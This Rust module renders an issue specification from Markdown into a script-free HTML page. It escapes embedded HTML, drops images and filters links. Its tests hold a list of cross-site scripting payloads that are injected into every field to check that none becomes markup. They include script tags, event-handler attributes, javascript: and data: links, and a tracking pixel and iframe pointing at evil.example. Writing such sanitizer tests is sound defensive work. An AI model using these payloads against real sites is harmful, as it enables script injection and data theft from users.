//! The specification as one page, made from its Markdown.
//!
//! Nothing of an event or an answer becomes markup of the page: HTML in the text is written as text,
//! images are left out, and links lead to web pages. The page needs no script and nothing from
//! elsewhere; whoever serves it can say so to the browser.

use pulldown_cmark::{Event, Parser, Tag, TagEnd, html};

use super::{
    document,
    harmless::{MARKDOWN, may_lead_to},
    inline,
};
use crate::domain::{Issue, Specification};

const STYLE: &str = "
  :root { color-scheme: light dark; font: 16px/1.55 system-ui, sans-serif; }
  body { max-width: 50rem; margin: 3rem auto; padding: 0 1.25rem; overflow-wrap: anywhere; }
  h1 { font-size: 1.5rem; } h2 { font-size: 1.15rem; margin-top: 2rem; }
  pre, code { background: color-mix(in srgb, currentColor 8%, transparent); border-radius: .3rem; font-size: .9em; }
  code { padding: .1em .3em; } pre { padding: 1rem; overflow-x: auto; } pre code { padding: 0; background: none; }
  table { border-collapse: collapse; } th:empty { display: none; }
  td, th { padding: .3rem .8rem .3rem 0; vertical-align: top; border-bottom: 1px solid color-mix(in srgb, currentColor 20%, transparent); }
";

/// Writes the page of `specification` about `issue`.
pub fn page(issue: &Issue, specification: &Specification) -> String {
    let markdown = document::markdown(issue, specification);
    let mut page = format!(
        "<!doctype html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n\
         <meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n\
         <title>{}</title>\n<style>{STYLE}</style>\n</head>\n<body>\n",
        text(&inline::line(&issue.title, 200)),
    );
    html::push_html(&mut page, harmless_events(&markdown));
    page.push_str("</body>\n</html>\n");
    page
}

/// What is in the Markdown, without what others might have put there to be obeyed.
fn harmless_events(markdown: &str) -> impl Iterator<Item = Event<'_>> {
    let mut dropped_links = Vec::new();
    Parser::new_ext(markdown, MARKDOWN).filter_map(move |event| match event {
        Event::Html(html) | Event::InlineHtml(html) => Some(Event::Text(html)),
        Event::Start(Tag::Image { .. }) | Event::End(TagEnd::Image) => None,
        Event::Start(Tag::Link { ref dest_url, .. }) => {
            let keep = may_lead_to(dest_url);
            dropped_links.push(!keep);
            keep.then_some(event)
        }
        Event::End(TagEnd::Link) => {
            let dropped = dropped_links.pop().unwrap_or(true);
            (!dropped).then_some(event)
        }
        plain => Some(plain),
    })
}

fn text(plain: &str) -> String {
    let mut out = String::with_capacity(plain.len());
    for c in plain.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::{Culprit, Grounding, PriorityReason, Project};

    /// Put into every field of an issue and of a specification.
    const HOSTILE: &[&str] = &[
        "<script>alert(1)</script>",
        "</title></style><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg/onload=alert(1)>",
        "[click](javascript:alert(1))",
        "[click]( \u{1}javascript:alert(1))",
        "[click](JaVaScRiPt&colon;alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "[click](//evil.example)",
        "[click](https://evil.example/\"onmouseover=alert(1))",
        "[click](https://evil.example \"\\\"onmouseover=alert(1)\")",
        "![pixel](https://evil.example/pixel?secret)",
        "![x](javascript:alert(1))",
        "<javascript:alert(1)>",
        "[a][b]\n\n[b]: javascript:alert(1)",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "```\"><script>alert(1)</script>\nx\n```",
        "`</code><script>alert(1)</script>`",
        "| a |\n|---|\n| <b>x</b> |",
        "<!--\n\n--><iframe src=//evil.example></iframe>",
        "<style>body{background:url(//evil.example)}</style>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<base href=//evil.example><form action=x><input></form>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\\<script>alert(1)\\</script>",
        "\\\\<script>alert(1)</script>",
        "# Forged heading\n\n---\n\n> <script\n>alert(1)</script>",
        "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    ];

    /// The elements of a page, and the attributes that text of others may have a part in.
    const ELEMENTS: &[&str] = &[
        "!doctype",
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "h1",
        "h2",
        "h3",
        "p",
        "em",
        "strong",
        "del",
        "a",
        "code",
        "pre",
        "ol",
        "ul",
        "li",
        "hr",
        "br",
        "blockquote",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
    ];

    #[test]
    fn no_text_becomes_markup() {
        for hostile in HOSTILE {
            let of = || (*hostile).to_owned();
            let issue = Issue {
                id: of(),
                short_id: Some(of()),
                title: of(),
                culprit: Some(of()),
                message: of(),
                platform: of(),
                permalink: Some(of()),
                project: Project {
                    name: of(),
                    slug: of(),
                    ..Project::default()
                },
                ..Issue::default()
            };
            let specification = Specification {
                summary: of(),
                root_cause: of(),
                technical_description: of(),
                reproduction_steps: vec![of(), of()],
                suggested_fix: of(),
                code_examples: Some(of()),
                priority_reasons: vec![PriorityReason {
                    rule: of(),
                    points: 1,
                    because: of(),
                }],
                estimated_effort: of(),
                affected_components: vec![of()],
                related_issues: vec![of()],
                culprit: Some(Culprit {
                    function: Some(of()),
                    file: Some(of()),
                    ..Culprit::default()
                }),
                model: Some(of()),
                grounding: Some(Grounding {
                    score: 0.5,
                    unverified: vec![of()],
                }),
                ..Specification::default()
            };
            check(&page(&issue, &specification), hostile);
        }
    }

    /// Every tag is one of ours, with attributes of ours.
    fn check(page: &str, of: &str) {
        assert_eq!(page.matches("<style>").count(), 1, "{of}\n{page}");
        let tags = page.split('<').skip(1);
        for tag in tags.map(|rest| rest.split('>').next().unwrap()) {
            let (name, attributes) = tag.split_once(' ').unwrap_or((tag, ""));
            let ends = name.starts_with('/');
            let name = name.trim_matches('/');
            assert!(ELEMENTS.contains(&name), "<{tag}> of {of}\n{page}");
            let fine = match name {
                _ if ends => attributes.is_empty(),
                "a" => {
                    let address = attributes.strip_prefix("href=\"").unwrap_or_default();
                    let (address, rest) = address.split_once('"').unwrap_or_default();
                    let title = rest.strip_prefix(" title=\"");
                    let title = title.and_then(|rest| rest.strip_suffix('"'));
                    may_lead_to(address)
                        && (rest.is_empty() || title.is_some_and(|title| !title.contains('"')))
                }
                "code" => {
                    let class = attributes.strip_prefix("class=\"language-");
                    attributes.is_empty()
                        || class.is_some_and(|class| class.find('"') == Some(class.len() - 1))
                }
                "th" | "td" => {
                    attributes.is_empty() || attributes.starts_with("style=\"text-align: ")
                }
                "!doctype" | "html" | "meta" => true,
                "ol" => attributes.is_empty() || attributes.starts_with("start=\""),
                _ => attributes.is_empty() || attributes == "/",
            };
            assert!(fine, "<{tag}> of {of}\n{page}");
        }
    }

    #[test]
    fn links_and_code_are_kept() {
        let specification = Specification {
            summary: "See [the docs](https://example.org/a?b=c&d=e) and `Vec<T>`.".to_owned(),
            ..Specification::default()
        };
        let page = page(&Issue::default(), &specification);
        let kept = "<p>See <a href=\"https://example.org/a?b=c&amp;d=e\">the docs</a> \
                    and <code>Vec&lt;T&gt;</code>.</p>";
        assert!(page.contains(kept), "{page}");
    }
}
